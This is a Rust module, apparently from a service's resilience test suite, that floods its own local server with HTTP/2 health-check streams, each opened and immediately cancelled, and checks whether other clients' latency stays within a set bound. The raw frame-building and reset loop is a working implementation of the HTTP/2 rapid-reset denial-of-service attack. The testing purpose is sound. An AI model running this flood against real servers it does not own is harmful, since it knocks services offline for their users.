//! Crowd `resets`: connections without a token that begin and reset health checks as fast as the service reads.

use std::{
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering::Relaxed},
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};

use tokio::{net::TcpSocket, runtime::Handle};

use crate::Failure;

use super::{
    findings::{Findings, millis},
    spent::CostMeasurement,
    stage::{CALM, Stage},
};

const CONNECTIONS: usize = 4;

/// Source address of the attack, different from that of others.
const FROM: &str = "127.0.0.2:0";

/// Duration of an attack, and of the spinning that it is compared with.
const ATTACK: Duration = Duration::from_secs(10);

/// Maximum p99 of others during the attack, as a multiple of their p99 beside threads that use as much processor time.
const BESIDE_SPINNING_MAX: f64 = 3.0;

/// Number of calls in one write, below the number of unaccepted resets that ends a connection.
const CALLS_AT_ONCE: usize = 8;

/// Highest stream id of HTTP/2.
const STREAM_MAX: u32 = (1 << 31) - 1;

/// Period in which a spinning thread works and rests.
const SPIN: Duration = Duration::from_millis(10);

pub(crate) async fn pass(stage: &mut Stage, findings: &mut Findings) -> Result<Option<i64>, Failure> {
    for _ in 0..stage.options.rounds {
        let calm = CostMeasurement::begin(stage).await?;
        stage.others().during(CALM, std::future::pending::<()>()).await?;
        let calm_cores = cores(calm).await?;
        let name = format!("{CONNECTIONS} connections begin and reset health checks");
        let attack = async {
            let spent = CostMeasurement::begin(stage).await?;
            let attack = Attack::begin(&stage.url())?;
            tokio::time::sleep(ATTACK).await;
            let cores = cores(spent).await?;
            Ok((cores, attack.end()?))
        };
        let Some((attack_cores, resets)) = stage.pair(findings, &name, ATTACK * 2, attack).await? else {
            findings.unfinished.push(format!("{name}: not ended within {:?}", ATTACK * 2));
            return Ok(None);
        };
        findings.measured(format!("{name}: resets"), "/s", resets as f64 / ATTACK.as_secs_f64());
        let more = (attack_cores - calm_cores).max(0.0);
        findings.measured(format!("{name}: processor time"), "cores", more);
        let spinning = format!("{CONNECTIONS} threads spin as much");
        let spin = async {
            let spin = Spin::begin(more);
            tokio::time::sleep(ATTACK).await;
            spin.end();
            Ok(())
        };
        stage.pair(findings, &spinning, ATTACK * 2, spin).await?;
        let p99 = |name: &str| {
            let passes = findings.passes.iter().find(|passes| passes.name == name)?;
            passes.pairs.last().map(|pair| millis(pair.during.p99))
        };
        if let Some((attacked, spun)) = p99(&name).zip(p99(&spinning)) {
            let figure = format!("{name}: others' p99, beside their p99 while threads spin as much");
            findings.at_most(figure, "", attacked / spun, BESIDE_SPINNING_MAX);
        }
    }
    Ok(Some(0))
}

/// Returns the cores that this process, the service and PostgreSQL used.
async fn cores(spent: CostMeasurement) -> Result<f64, Failure> {
    let (cost, elapsed) = spent.each(1).await?;
    Ok((cost.load + cost.server + cost.postgresql) / 1e6 / elapsed.as_secs_f64())
}

/// Threads that begin and reset calls until they are stopped.
struct Attack {
    stop: Arc<AtomicBool>,
    resets: Arc<AtomicU64>,
    threads: Vec<JoinHandle<()>>,
}

impl Attack {
    fn begin(url: &str) -> Result<Self, Failure> {
        let address: SocketAddr = url.strip_prefix("http://").ok_or("not the URL of a server")?.parse()?;
        let (stop, resets) = (Arc::<AtomicBool>::default(), Arc::<AtomicU64>::default());
        let threads = (0..CONNECTIONS).map(|_| {
            let (stop, resets, runtime) = (stop.clone(), resets.clone(), Handle::current());
            thread::spawn(move || {
                while !stop.load(Relaxed) {
                    // The service may refuse the connection, or end it at any moment.
                    if connect(&runtime, address).and_then(|stream| reset(stream, address, &stop, &resets)).is_err() {
                        thread::sleep(Duration::from_millis(1));
                    }
                }
            })
        });
        Ok(Self { threads: threads.collect(), stop, resets })
    }

    /// Stops the attack. Returns the number of calls that were begun and reset.
    fn end(self) -> Result<u64, Failure> {
        self.stop.store(true, Relaxed);
        for thread in self.threads {
            thread.join().map_err(|_| "a thread of the attack panicked")?;
        }
        Ok(self.resets.load(Relaxed))
    }
}

fn connect(runtime: &Handle, address: SocketAddr) -> Result<TcpStream, Failure> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(FROM.parse()?)?;
    let stream = runtime.block_on(socket.connect(address))?.into_std()?;
    stream.set_nonblocking(false)?;
    stream.set_nodelay(true)?;
    stream.set_write_timeout(Some(Duration::from_millis(200)))?;
    Ok(stream)
}

/// Begins and resets calls until the service ends the connection.
fn reset(mut stream: TcpStream, address: SocketAddr, stop: &AtomicBool, resets: &AtomicU64) -> Result<(), Failure> {
    let mut reading = stream.try_clone()?;
    // Replies are read, so that the service never waits for the attack.
    let reader = thread::spawn(move || while reading.read(&mut [0; 16 << 10]).is_ok_and(|bytes| bytes > 0) {});
    let block = header_block(address);
    let mut sent = stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0");
    let mut stream_id = 1;
    while sent.is_ok() && !stop.load(Relaxed) && stream_id < STREAM_MAX - 2 * CALLS_AT_ONCE as u32 {
        let mut frames = Vec::new();
        for _ in 0..CALLS_AT_ONCE {
            // HEADERS with END_HEADERS, and RST_STREAM with CANCEL.
            frame(&mut frames, 1, 4, stream_id, &block);
            frame(&mut frames, 3, 0, stream_id, &8_u32.to_be_bytes());
            stream_id += 2;
        }
        sent = stream.write_all(&frames);
        resets.fetch_add(CALLS_AT_ONCE as u64, Relaxed);
    }
    let _ = stream.shutdown(std::net::Shutdown::Both);
    let _ = reader.join();
    Ok(sent?)
}

fn frame(frames: &mut Vec<u8>, kind: u8, flags: u8, stream_id: u32, payload: &[u8]) {
    frames.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    frames.extend_from_slice(&[kind, flags]);
    frames.extend_from_slice(&stream_id.to_be_bytes());
    frames.extend_from_slice(payload);
}

/// Returns the headers of a health check, without indexing.
fn header_block(address: SocketAddr) -> Vec<u8> {
    // :method POST and :scheme http, of the static table.
    let mut block = vec![0x83, 0x86];
    let mut literal = |name: &[u8], value: &str| {
        block.extend_from_slice(name);
        block.push(value.len() as u8);
        block.extend_from_slice(value.as_bytes());
    };
    literal(&[0x04], "/grpc.health.v1.Health/Check");
    literal(&[0x01], &address.to_string());
    literal(&[0x0f, 0x10], "application/grpc");
    literal(b"\0\x02te", "trailers");
    block
}

/// Threads that use a given amount of processor time.
struct Spin {
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

impl Spin {
    fn begin(cores: f64) -> Self {
        let stop = Arc::<AtomicBool>::default();
        let work = SPIN.mul_f64((cores / CONNECTIONS as f64).min(1.0));
        let spin = |_| {
            let stop = stop.clone();
            thread::spawn(move || {
                while !stop.load(Relaxed) {
                    let begun = Instant::now();
                    while begun.elapsed() < work {
                        std::hint::spin_loop();
                    }
                    thread::sleep(SPIN.saturating_sub(work));
                }
            })
        };
        Self { threads: (0..CONNECTIONS).map(spin).collect(), stop }
    }

    fn end(self) {
        self.stop.store(true, Relaxed);
        for thread in self.threads {
            // A thread that only spins does not panic.
            let _ = thread.join();
        }
    }
}
